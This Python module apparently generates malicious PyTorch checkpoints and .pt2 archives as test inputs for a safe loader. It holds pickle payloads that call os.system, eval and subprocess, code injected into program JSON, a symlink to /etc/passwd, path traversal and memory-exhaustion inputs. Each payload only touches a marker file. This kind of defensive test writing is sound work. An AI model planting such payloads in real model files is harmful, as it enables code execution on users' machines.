"""Builders of files that try to run code when they are read. Each payload creates the marker file it is given."""

import functools
import io
import json
import operator
import os
import pickle
import stat
import subprocess
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
import torch.utils.cpp_extension
from torch import nn
from torch.nn.utils import prune


class Call:
    """Pickles as a call of a function."""

    def __init__(self, function: Callable, *arguments: Any):
        self.call = function, arguments

    def __reduce__(self) -> tuple:
        return self.call


class EvilModule(nn.Module):
    """A module whose state is code."""

    def __init__(self, marker: Path):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(2))
        self.marker = str(marker)

    def __setstate__(self, state: dict) -> None:
        Path(state["marker"]).touch()
        super().__setstate__(state)


class EvilReduce(nn.Module):
    def __init__(self, marker: Path):
        super().__init__()
        self.marker = str(marker)

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.marker}",)


def touch(marker: Path) -> str:
    return f"touch {marker}"


def python(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


# Objects for torch.save: what a stranger's script would write.
OBJECTS: dict[str, Callable[[Path], Any]] = {
    "os.system": lambda m: Call(os.system, touch(m)),
    "builtins.eval": lambda m: Call(eval, python(m)),
    "builtins.exec": lambda m: Call(exec, python(m)),
    "subprocess.Popen": lambda m: Call(subprocess.Popen, ["touch", str(m)]),
    "in a state dict": lambda m: {"weight": torch.ones(2), "bias": Call(os.system, touch(m))},
    "in the dict of a YOLO checkpoint": lambda m: {"model": nn.Linear(1, 1), "ema": Call(os.system, touch(m))},
    "in the metadata of a YOLO checkpoint": lambda m: {"model": nn.Linear(1, 1), "date": Call(os.system, touch(m))},
    "attribute of a harmless module": lambda m: _with(nn.Linear(1, 1), note=Call(os.system, touch(m))),
    "hook of a harmless module": lambda m: _with(nn.Linear(1, 1), _forward_hooks={0: Call(eval, python(m))}),
    "module with its own __setstate__": EvilModule,
    "module with its own __reduce__": EvilReduce,
    "torch.hub.load": lambda m: Call(torch.hub.load, str(m.parent)),
    "torch.load of a nested file": lambda m: Call(torch.load, str(m)),
    "torch.storage._load_from_bytes": lambda m: Call(torch.storage._load_from_bytes, _saved(Call(os.system, touch(m)))),
    "torch.jit.load": lambda m: Call(torch.jit.load, str(m)),
    "torch.utils.cpp_extension": lambda m: Call(torch.utils.cpp_extension.load, str(m)),
    "pickle.loads": lambda m: Call(pickle.loads, pickle.dumps(Call(os.system, touch(m)))),
    "functools.partial of os.system": lambda m: Call(functools.partial, os.system, touch(m)),
    "operator.methodcaller": lambda m: Call(operator.methodcaller, "system"),
    "pathlib.Path.touch": lambda m: Call(Path.touch, m),
    **{
        f"{name} of a Linear is a partial": lambda m, name=name: _with(
            nn.Linear(1, 1), **{name: functools.partial(nn.Flatten)}
        )
        for name in (
            *("eval", "train", "parameters", "float", "forward", "state_dict", "named_modules", "type"),
            *(
                "_call_impl",
                "__call__",
                "__deepcopy__",
                "__prepare_scriptable__",
            ),
        )
    },
    "method of a Linear is a class": lambda m: _with(nn.Linear(1, 1), eval=nn.Flatten),
    "method of a Linear is a function": lambda m: _with(nn.Linear(1, 1), eval=nn.functional.relu),
    "method of a Linear is a module": lambda m: _with(nn.Linear(1, 1), eval=nn.ReLU()),
    "method of a part's part": lambda m: nn.Sequential(nn.Sequential(_with(nn.ReLU(), forward=nn.functional.silu))),
    "method of a module that is no registered part": lambda m: _with(
        nn.Linear(1, 1), note=[_with(nn.ReLU(), eval=nn.Flatten)]
    ),
    **{
        f"{name} of a Linear is a torch function": lambda m, name=name: _with(
            nn.Linear(1, 1), **{name: {0: functools.partial(nn.functional.relu)}}
        )
        for name in (
            *("_forward_hooks", "_forward_pre_hooks", "_backward_hooks", "_backward_pre_hooks", "_state_dict_hooks"),
            *("_state_dict_pre_hooks", "_load_state_dict_pre_hooks", "_load_state_dict_post_hooks"),
        )
    },
    "hooks in a ModuleDict": lambda m: _with(nn.Linear(1, 1), _forward_hooks=nn.ModuleDict({"0": nn.ReLU()})),
    "a module as a hook": lambda m: _with(nn.Linear(1, 1), _forward_hooks={0: nn.ReLU()}),
    "method of a pruning": lambda m: _with(
        nn.Linear(1, 1), _forward_pre_hooks={0: _attributes(prune.Identity(), apply_mask=nn.Flatten)}
    ),
    "method of a state dict": lambda m: _attributes(OrderedDict(weight=torch.ones(2)), keys=nn.Flatten),
    "method of a state dict, names of tensors only": lambda m: _attributes(
        OrderedDict(weight=torch.ones(2)), keys=torch.Size
    ),
    "method of a tensor": lambda m: {"weight": _attributes(torch.ones(2), float=nn.Flatten)},
    "method of a parameter": lambda m: {"weight": _attributes(nn.Parameter(torch.ones(2)), detach=nn.Flatten)},
    "method of a tensor, names of tensors only": lambda m: {"weight": _attributes(torch.ones(2), float=torch.Size)},
    "the constructor of a torch module": lambda m: Call(nn.Linear, 1 << 20, 1 << 20),
}


def _attributes(target: Any, **attributes: Any) -> Any:
    vars(target).update(attributes)
    return target


def _with(module: nn.Module, **attributes: Any) -> nn.Module:
    module.__dict__.update(attributes)
    return module


def _saved(value: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def _global(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def _module(state: bytes) -> bytes:
    """An empty torch Linear, given a state."""
    return _global("torch.nn.modules.linear", "Linear") + b")\x81" + state + b"b"


# Pickles that no Python object gives, instruction by instruction.
PICKLES: dict[str, Callable[[Path], bytes]] = {
    "INST instruction": lambda m: b"(" + _text(touch(m)) + b"ios\nsystem\n.",
    "OBJ instruction": lambda m: b"(" + _global("os", "system") + _text(touch(m)) + b"o.",
    "OBJ of an allowed class": lambda m: b"(" + _global("torch.nn.modules.linear", "Linear") + b"K\x01K\x01o.",
    "STACK_GLOBAL": lambda m: _text("os") + _text("system") + b"\x93" + _text(touch(m)) + b"\x85R.",
    "STACK_GLOBAL of names put together": lambda m: (
        _text("os") + b"q\x00" + _text("system") + b"q\x01" + _text("x") + b"0h\x00h\x01\x93"
        + _text(touch(m)) + b"\x85R."
    ),
    "dotted name through an allowed module": lambda m: (
        _text("torch.nn.modules.module") + _text("torch.os.system") + b"\x93" + _text(touch(m)) + b"\x85R."
    ),
    "dotted name through torch": lambda m: _text("torch") + _text("os.system") + b"\x93" + _text(touch(m)) + b"\x85R.",
    "function that an allowed module imported": lambda m: (
        _global("torch.nn.functional", "importlib") + _text("os") + b"\x85R."
    ),
    "getattr of an allowed class": lambda m: (
        _global("builtins", "getattr") + _global("torch.nn.modules.linear", "Linear") + _text("__init__") + b"\x86R."
    ),
    "getattr, Python 2 name": lambda m: (
        _global("__builtin__", "getattr") + _module(b"}") + _text("register_forward_hook") + b"\x86R."
    ),
    "getattr of torch's functions": lambda m: (
        _global("builtins", "getattr") + _global("torch._C", "_VariableFunctionsClass") + _text("from_file") + b"\x86R."
    ),
    "__setstate__ in the state": lambda m: (
        _module(b"}" + _text("__setstate__") + _global("torch.nn.functional", "relu") + b"s") + _text(python(m)) + b"b."
    ),
    "what a module calls once it is compiled": lambda m: (
        _module(b"}" + _text("_compiled_call_impl") + _global("torch.nn.functional", "relu") + b"s") + b"."
    ),
    "hook that is added after the state": lambda m: (
        _module(b"}" + _text("_forward_hooks") + b"}q\x01s")
        + b"h\x01K\x00" + _global("torch.nn.functional", "relu") + b"s0."
    ),
    "state of a class": lambda m: (
        _global("torch.nn.modules.linear", "Linear") + b"N}" + _text("polluted") + _text("x") + b"s\x86b."
    ),
    "state of a function": lambda m: (
        _global("torch.nn.functional", "relu") + b"N}" + _text("polluted") + _text("x") + b"s\x86b."
    ),
    "state of torch.Tensor": lambda m: _global("torch", "Tensor") + b"N}" + _text("polluted") + _text("x") + b"s\x86b.",
    "slots of a module": lambda m: _module(b"N}" + _text("polluted") + _text("x") + b"s\x86") + b".",
    "call of a stored function": lambda m: _global("torch.nn.functional", "relu") + b"K\x01\x85R.",
    "call of a module": lambda m: _module(b"}") + b"K\x01\x85R.",
    "call of an allowed class": lambda m: _global("torch.nn.modules.linear", "Linear") + b"K\x01K\x01\x86R.",
    "constructor arguments for __new__": lambda m: (
        _global("torch.nn.modules.linear", "Linear") + _text("x") + b"\x85\x81."
    ),
    "items set in a module": lambda m: _module(b"}") + _text("x") + _text("y") + b"s.",
    "values appended to a module": lambda m: (
        _global("torch.nn.modules.container", "ModuleList") + b")\x81}b" + _text("x") + b"a."
    ),
    "tensor subclass": lambda m: (
        _global("torch._tensor", "_rebuild_from_type_v2")
        + b"(" + _global("torch.nn.modules.linear", "Linear") + _global("torch", "Tensor") + b")}tR."
    ),
    "numpy array of objects": lambda m: (
        _global("numpy.core.multiarray", "_reconstruct") + _global("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
        + b"(K\x01K\x01\x85" + _global("numpy", "dtype") + _text("O8") + b"\x89\x88\x87R\x89]" + _text("x") + b"atb."
    ),
    "numpy array larger than its data": lambda m: (
        _global("numpy.core.multiarray", "_reconstruct") + _global("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
        + b"(K\x01J\xff\xff\xff\x7f\x85" + _global("numpy", "dtype") + _text("f8") + b"\x89\x88\x87R\x89C\x01xtb."
    ),
    "encoding that imports a module": lambda m: _global("_codecs", "encode") + _text("x") + _text("os") + b"\x86R.",
    "defaultdict that calls": lambda m: (
        _global("collections", "defaultdict") + _global("torch.nn.modules.linear", "Linear") + b"\x85R."
    ),
    "fraction without end": lambda m: _global("fractions", "Fraction") + _text("1e999999999") + b"\x85R.",
    "bytes without end": lambda m: _global("builtins", "bytearray") + b"J\xff\xff\xff\x7f\x85R.",
    "bytearray longer than the file": lambda m: b"\x96" + (1 << 40).to_bytes(8, "little") + b"x.",
    "numpy array larger than its buffer": lambda m: (
        _global("numpy._core.numeric", "_frombuffer") + b"(\x96\x01\0\0\0\0\0\0\0x" + _global("numpy", "dtype")
        + _text("f8") + b"\x89\x88\x87RJ\xff\xff\xff\x7f\x85" + _text("C") + b"tR."
    ),
    "deque without end": lambda m: (
        _global("collections", "deque") + _global("builtins", "range") + b"J\xff\xff\xff\x7f\x85R\x85R."
    ),
    "deque without end, by its constructor": lambda m: (
        _global("collections", "deque") + _global("builtins", "range") + b"J\xff\xff\xff\x7f\x85R\x85\x81."
    ),
    "class of a value": lambda m: _global("builtins", "type") + _text("x") + b"\x85R.",
    "class made of a name": lambda m: _global("builtins", "type") + _text("x") + b")}\x87R.",
    "unit of time that is none": lambda m: (
        _global("numpy", "dtype") + _text("M8") + b"\x89\x88\x87R" + b"(K\x04" + _text("<") + b"NNNJ\xff\xff\xff\xff"
        + b"J\xff\xff\xff\xffK\x00N(C\x02D]K\x01K\x01K\x01t\x86tb."
    ),
    "partial of something unnamed": lambda m: (
        _global("functools", "partial") + _global("torch.nn.functional", "relu") + b"\x85R"
        + b"(" + _module(b"}") + b")}NtbN."
    ),
    "enum with a class of its own": lambda m: b"cenum\nEnum\n" + _text("x") + b"\x85R.",
    "set without end": lambda m: (
        _global("builtins", "set") + _global("builtins", "range") + b"J\xff\xff\x00\x00\x85R\x85R."
    ),
    "extension registry": lambda m: b"\x82\x01.",
    "persistent id of text": lambda m: _text("x") + b"Q.",
    "tensor larger than the file": lambda m: (
        b"(" + _text("storage") + _global("torch", "FloatStorage") + _text("0") + _text("cpu") + b"J\xff\xff\xff\x7ftQ."
    ),
    "tensor larger than the file, before 1.6": lambda m: (
        b"(" + _text("storage") + _global("torch", "FloatStorage") + _text("0") + _text("cpu")
        + b"J\xff\xff\xff\x7fNtQ."
    ),
    "dotted name through an allowed module, to another": lambda m: (
        _text("torchvision.models.resnet") + _text("nn.functional.relu") + b"\x93."
    ),
    "tensor that reaches beyond its storage": lambda m: (
        _global("torch._utils", "_rebuild_tensor_v2") + b"((" + _text("storage") + _global("torch", "FloatStorage")
        + _text("0") + _text("cpu") + b"K\x01tQK\x00J\xff\xff\xff\x7f\x85K\x01\x85\x89"
        + _global("collections", "OrderedDict") + b")RtR."
    ),
    "cut off in the middle": lambda m: _module(b"}")[:-4],
    "stack underflow": lambda m: b"R.",
    "unknown instruction": lambda m: b"\xff.",
}  # fmt: skip


# Of these, those that are refused as broken, by us or by torch: no object comes of them.
BROKEN = {
    "bytearray longer than the file",
    "extension registry",
    "persistent id of text",
    "tensor larger than the file",
    "tensor larger than the file, before 1.6",
    "tensor that reaches beyond its storage",
    "cut off in the middle",
    "stack underflow",
    "unknown instruction",
}


def write_object(path: Path, value: Any, *, legacy: bool = False) -> None:
    torch.save(value, path, _use_new_zipfile_serialization=not legacy)


def write_pickle(path: Path, instructions: bytes, *, legacy: bool = False) -> None:
    """A file of torch.save with these instructions in the place of the object's, which follow a PROTO."""
    data = (b"\x80\x04" if b"\x93" in instructions else b"\x80\x02") + instructions
    if legacy:
        saved = io.BytesIO()
        torch.save(None, saved, _use_new_zipfile_serialization=False)
        path.write_bytes(saved.getvalue().replace(b"\x80\x02N.\x80\x02]q\x00.", data + b"\x80\x02]q\x00."))
        return
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", b"\0" * 4)
        archive.writestr("archive/version", "3\n")


def write_tar(path: Path, marker: Path) -> None:
    """The form of PyTorch before 0.1.10."""
    payload = pickle.dumps(Call(os.system, touch(marker)))
    with tarfile.open(path, "w") as archive:
        for name in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(name)
            entry.size = len(payload)
            archive.addfile(entry, io.BytesIO(payload))


def write_tar_in_disguise(path: Path, marker: Path) -> None:
    """A tar archive whose first name begins like a pickle of torch.save."""
    write_tar(path, marker)
    data = bytearray(path.read_bytes())
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    header = bytearray(data[:512])
    header[: len(magic)] = magic
    header[148:156] = b" " * 8
    header[148:156] = f"{sum(header):06o}\0 ".encode()
    path.write_bytes(bytes(header) + bytes(512) + bytes(data))


def edit_program(path: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    """Changes the program, as JSON, in a `.pt2`."""
    edit_record(path, "models/model.json", lambda data: _edited_json(data, edit))


def edit_record(path: Path, record: str, edit: Callable[[bytes], bytes]) -> None:
    """Changes one record of a `.pt2`, or adds it."""
    with zipfile.ZipFile(path) as archive:
        contents = {entry.filename: archive.read(entry) for entry in archive.infolist()}
    root = next(iter(contents)).split("/")[0]
    name = f"{root}/{record}"
    contents[name] = edit(contents.get(name, b""))
    with zipfile.ZipFile(path, "w") as archive:
        for entry, data in contents.items():
            archive.writestr(entry, data)


def _edited_json(data: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    document = json.loads(data)
    edit(document)
    return json.dumps(document).encode()


def _nodes(program: dict[str, Any]) -> list[dict[str, Any]]:
    return program["graph_module"]["graph"]["nodes"]


def _rename(program: dict[str, Any], old: str, new: str) -> dict[str, Any]:
    return json.loads(json.dumps(program).replace(json.dumps(old), json.dumps(new)))


def _expression(program: dict[str, Any], text: str) -> None:
    for value in program["graph_module"]["graph"]["sym_int_values"].values():
        value["as_expr"] = {"expr_str": text, "hint": None}


def _replace_input_name(program: dict[str, Any], marker: Path) -> None:
    changed = _rename(program, "x", f"x={python(marker)}")
    program.clear()
    program.update(changed)


def _spec(program: dict[str, Any], side: str, text: str) -> None:
    program["graph_module"]["module_call_graph"][0]["signature"][side] = text


def _importing_spec(folder: Path) -> str:
    context = json.dumps([{"__enum__": True, "fqn": "payload_module:Kind", "name": "A"}])
    leaf = {"type": None, "context": None, "children_spec": []}
    inner = {"type": "builtins.dict", "context": context, "children_spec": [leaf]}
    return json.dumps([1, {"type": "builtins.tuple", "context": "null", "children_spec": [inner]}])


def _target(program: dict[str, Any], target: str) -> None:
    _nodes(program)[0]["target"] = target


def _config(path: Path, record: str, change: dict[str, Any]) -> None:
    def edit(document: dict[str, Any]) -> None:
        next(iter(document["config"].values())).update(change)

    edit_record(path, record, lambda data: _edited_json(data, edit))


def _pickled_weight(path: Path, marker: Path) -> None:
    _config(path, "data/weights/model_weights_config.json", {"use_pickle": True, "path_name": "weight_0"})
    edit_record(path, "data/weights/weight_0", lambda _: _saved(Call(os.system, touch(marker))))


def _pickled_constant(path: Path, marker: Path, prefix: str) -> None:
    _config(path, "data/constants/model_constants_config.json", {"use_pickle": True, "path_name": f"{prefix}0"})
    evil = Call(os.system, touch(marker))
    data = pickle.dumps(evil) if prefix == "opaque_obj_" else _saved(evil)
    edit_record(path, f"data/constants/{prefix}0", lambda _: data)


def _link(path: Path) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        entry = zipfile.ZipInfo(f"{archive.namelist()[0].split('/')[0]}/extra/link")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")


def _add(path: Path, name: str, data: bytes = b"x") -> None:
    with zipfile.ZipFile(path, "a") as archive:
        root = archive.namelist()[0].split("/")[0]
        archive.writestr(name.replace("ROOT", root), data)


# Changes to a good `.pt2`; the flag: PyTorch's own loader runs the payload, which a test makes sure of.
PROGRAMS: dict[str, tuple[Callable[[Path, Path], None], bool]] = {
    "size expression that calls": (lambda p, m: edit_program(p, lambda j: _expression(j, python(m))), True),
    "size expression with an attribute": (
        lambda p, m: edit_program(p, lambda j: _expression(j, "Integer(1).__class__")),
        False,
    ),
    "size expression without end": (lambda p, m: edit_program(p, lambda j: _expression(j, "9**9**9**9")), False),
    "name of an input is code": (lambda p, m: edit_program(p, lambda j: _replace_input_name(j, m)), True),
    "operator os.system": (lambda p, m: edit_program(p, lambda j: _target(j, "torch.os.system")), False),
    "operator torch.hub.load": (lambda p, m: edit_program(p, lambda j: _target(j, "torch.hub.load")), False),
    "operator load_library": (lambda p, m: edit_program(p, lambda j: _target(j, "torch.ops.load_library")), False),
    "operator that reads files": (
        lambda p, m: edit_program(p, lambda j: _target(j, "torch.ops.aten.from_file.default")),
        False,
    ),
    "structure that imports a module": (
        lambda p, m: edit_program(p, lambda j: _spec(j, "in_spec", _importing_spec(m.parent))),
        True,
    ),
    "parameter name that ends its quotes": (
        lambda p, m: edit_program(
            p, lambda j: j["graph_module"]["signature"]["input_specs"][0]["parameter"].update(parameter_name='a"b.c')
        ),
        False,
    ),
    "weight as a pickle": (_pickled_weight, True),
    "constant as a pickle": (lambda p, m: _pickled_constant(p, m, "tensor_"), True),
    "opaque object": (lambda p, m: _pickled_constant(p, m, "opaque_obj_"), True),
    "sample inputs that run code": (
        lambda p, m: edit_record(p, "data/sample_inputs/model.pt", lambda _: _saved((Call(os.system, touch(m)),))),
        True,
    ),
    "weights in the older form": (
        lambda p, m: edit_record(p, "data/weights/model.pt", lambda _: _saved({"a": Call(os.system, touch(m))})),
        True,
    ),
    "compiled library": (lambda p, m: _add(p, "ROOT/data/aotinductor/model/x.so"), False),
    "second program": (lambda p, m: _add(p, "ROOT/models/other.json", b"{}"), False),
    "name that leads elsewhere": (lambda p, m: _add(p, "ROOT/extra/../../../x"), False),
    "record outside of the root": (lambda p, m: _add(p, "version", b"8.20"), False),
    "doubled name": (lambda p, m: _add(p, "ROOT/archive_format", b"pt2"), False),
    "link": (lambda p, m: _link(p), False),
    "weight without data": (
        lambda p, m: _config(
            p,
            "data/weights/model_weights_config.json",
            {
                "tensor_meta": {
                    "dtype": 7,
                    "sizes": [{"as_int": 1 << 40}],
                    "requires_grad": True,
                    "device": {"type": "cpu", "index": None},
                    "strides": [{"as_int": 0}],
                    "storage_offset": {"as_int": 0},
                    "layout": 7,
                }
            },
        ),
        False,
    ),
    "unknown field": (lambda p, m: edit_program(p, lambda j: j["graph_module"].update(hook="x")), False),
}
